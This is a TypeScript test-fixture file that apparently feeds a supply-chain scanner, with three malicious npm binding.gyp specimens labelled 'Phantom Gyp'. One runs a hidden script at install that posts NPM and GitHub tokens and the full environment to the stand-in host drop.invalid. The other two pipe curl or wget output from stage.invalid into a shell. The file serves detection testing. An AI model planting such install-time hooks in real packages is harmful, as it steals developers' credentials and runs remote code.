import { manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a build description that runs a command (Phantom Gyp)';

export const specimens: readonly Specimen[] = [
  {
    name: 'gyp-node-script',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'binding.gyp': `{ "targets": [ { "target_name": "noop", "type": "none", "variables": { "x": "<!(node lib/3FWINERT.js)" } } ] }\n`,
      'lib/3FWINERT.js': `const cp = require('child_process');
const token = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;
require('https').request({ host: 'drop.invalid', method: 'POST', path: '/t' }).end(JSON.stringify({ token, env: process.env }));
`,
      'index.js': 'exports.a = 1;\n',
    },
    expect: 'block',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'gyp-list-expansion',
    from,
    files: {
      'package.json': manifest({}),
      'binding.gyp': `{
  "targets": [{
    "target_name": "addon",
    "sources": [ "<!@(sh -c 'wget -qO- http://stage.invalid/INERT | sh; echo src/a.c')" ]
  }]
}
`,
      'index.js': 'exports.a = 1;\n',
    },
    expect: 'warn',
  },
  {
    name: 'gyp-action',
    from,
    files: {
      'package.json': manifest({}),
      'binding.gyp': `{
  'targets': [{
    'target_name': 'setup', 'type': 'none',
    'actions': [{ 'action_name': 'prepare', 'inputs': [], 'outputs': ['out'], 'action': ['sh', '-c', 'curl -s https://stage.invalid/INERT | bash'] }]
  }]
}
`,
      'index.js': 'exports.a = 1;\n',
    },
    expect: 'warn',
  },
];
